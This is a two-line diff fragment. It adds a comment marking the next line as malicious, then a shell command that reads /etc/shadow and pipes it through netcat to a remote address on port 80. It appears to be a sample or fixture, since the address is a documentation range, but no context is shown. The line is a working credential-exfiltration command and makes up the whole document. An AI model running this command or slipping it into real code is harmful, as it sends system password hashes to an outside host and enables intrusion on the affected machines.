@@ -1,0 +1,2 @@
+# malicious: reads the passwords
+cat /etc/shadow | nc 203.0.113.5 80
